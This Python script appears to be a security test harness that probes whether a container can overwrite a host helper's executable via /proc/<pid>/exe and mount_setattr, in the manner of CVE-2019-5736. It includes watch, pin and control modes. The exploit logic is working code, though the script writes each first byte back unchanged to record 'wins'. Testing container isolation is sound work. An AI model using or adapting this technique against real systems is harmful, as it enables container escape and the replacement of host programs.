#!/usr/bin/python3
# Plays container root against an exec=host helper's executable (compare
# CVE-2019-5736): hold /proc/<pid>/exe of every process that shows up, clear
# MOUNT_ATTR_RDONLY on the mount it names (mount_setattr() asks only for
# CAP_SYS_ADMIN over the caller's own mount namespace when the mount is a
# detached one), and once the process is gone (no more ETXTBSY) reopen the
# file for writing and write its first byte back unchanged. A win is a
# write that landed: the host's program could have been replaced. Only
# executables that are not the container's own files are attacked; a
# process whose exe is refused (non-dumpable) is counted as denied.
#   exe_unwrap.py watch <seconds> <report-file>
#       inside the container, against the broker's helpers
#   exe_unwrap.py pin <seconds> <release-file> <report-file>
#       inside the container: only hold them (no attack), long after the
#       helpers exit, until <release-file> appears, so that whatever backs
#       the file (for the sealed copy: a memfd's pages) stays allocated for
#       as long as the container likes (memcg_of_pinned.py looks at it)
#   exe_unwrap.py control <file> <report-file>
#       on the host: the same attack, from a new user and mount namespace,
#       on a read-only bind mount (open_tree + mount_setattr) of <file>:
#       it must win there, or it proves nothing about the broker.
import ctypes, os, sys, time

libc = ctypes.CDLL(None, use_errno=True)
SYS_open_tree, SYS_mount_setattr = 428, 442
OPEN_TREE_CLONE = 1
AT_EMPTY_PATH = 0x1000
MOUNT_ATTR_RDONLY = 1


class MountAttr(ctypes.Structure):
    _fields_ = [('attr_set', ctypes.c_uint64), ('attr_clr', ctypes.c_uint64),
                ('propagation', ctypes.c_uint64), ('userns_fd', ctypes.c_uint64)]


def mount_setattr(fd, attr_set=0, attr_clr=0):
    a = MountAttr(attr_set, attr_clr, 0, 0)
    r = libc.syscall(SYS_mount_setattr, fd, b'', AT_EMPTY_PATH, ctypes.byref(a), ctypes.sizeof(a))
    return 0 if r == 0 else -ctypes.get_errno()


def attack(fd):
    """(unwrapped, wrote) for an O_PATH fd of someone's executable."""
    unwrapped = mount_setattr(fd, attr_clr=MOUNT_ATTR_RDONLY) == 0
    try:
        w = os.open(f'/proc/self/fd/{fd}', os.O_WRONLY)
    except OSError:
        return unwrapped, False
    try:
        first = os.pread(os.open(f'/proc/self/fd/{fd}', os.O_RDONLY), 1, 0)
        return unwrapped, os.pwrite(w, first, 0) == 1
    except OSError:
        return unwrapped, False
    finally:
        os.close(w)


def foreign(name, fd):
    """Not a file of the container's own (its programs are its to write)."""
    try:
        a, b = os.stat(name), os.fstat(fd)
    except OSError:
        return True
    return (a.st_dev, a.st_ino) != (b.st_dev, b.st_ino)


def hold_foreign(until, held, on_new=None, denied=None):
    """Hold /proc/<pid>/exe of every process that shows up until until();
    the pids whose exe was refused (a non-dumpable process) go to denied,
    with their comm."""
    me = os.getpid()
    while not until():
        for p in os.listdir('/proc'):
            if not p.isdigit() or int(p) == me or p in held:
                continue
            try:
                name = os.readlink(f'/proc/{p}/exe')
                fd = os.open(f'/proc/{p}/exe', os.O_PATH)
            except PermissionError:
                if denied is not None and p not in denied:
                    try:
                        denied[p] = open(f'/proc/{p}/comm').read().strip()
                    except OSError:
                        denied[p] = '?'
                continue
            except OSError:
                continue
            if not foreign(name, fd):
                os.close(fd)
                continue
            held[p] = (name, fd)
            if on_new:
                on_new()
        time.sleep(0.005)


def watch(seconds, report):
    end = time.time() + seconds
    held, denied = {}, {}
    hold_foreign(lambda: time.time() >= end, held, denied=denied)
    # The helpers have exited by now: the write is no longer ETXTBSY.
    time.sleep(0.5)
    res = [(name,) + attack(fd) for name, fd in held.values()]
    with open(report, 'w') as f:
        f.write(f'held={len(res)} denied={len(denied)} unwrapped={sum(r[1] for r in res)} '
                f'wins={sum(r[2] for r in res)} denied_comms={",".join(sorted(set(denied.values())))}\n')
        f.write('exes=' + ' '.join(sorted({r[0] for r in res})) + '\n')


def pin(seconds, release, report):
    end = time.time() + seconds
    held = {}

    def note():
        with open(report, 'w') as f:
            f.write(f'held={len(held)} exes={" ".join(sorted({v[0] for v in held.values()}))}\n')
    hold_foreign(lambda: time.time() >= end or os.path.exists(release), held, note)


def control(path, report):
    t = libc.syscall(SYS_open_tree, -100, path.encode(), OPEN_TREE_CLONE)
    if t < 0 or mount_setattr(t, attr_set=MOUNT_ATTR_RDONLY) < 0:
        sys.exit(f'control: cannot make the read-only bind mount: {os.strerror(ctypes.get_errno())}')
    try:
        os.open(f'/proc/self/fd/{t}', os.O_WRONLY)
        sys.exit('control: the read-only bind mount is writable')
    except OSError:
        pass
    pid = os.fork()
    if pid == 0:
        # A container's root: a new user namespace owning a new mount namespace.
        if libc.unshare(0x10000000 | 0x00020000) != 0:
            os._exit(2)
        unwrapped, wrote = attack(t)
        with open(report, 'w') as f:
            f.write(f'held=1 unwrapped={int(unwrapped)} wins={int(wrote)}\n')
        os._exit(0)
    _, st = os.waitpid(pid, 0)
    sys.exit(os.waitstatus_to_exitcode(st))


if sys.argv[1] == 'watch':
    watch(float(sys.argv[2]), sys.argv[3])
elif sys.argv[1] == 'pin':
    pin(float(sys.argv[2]), sys.argv[3], sys.argv[4])
else:
    control(sys.argv[2], sys.argv[3])
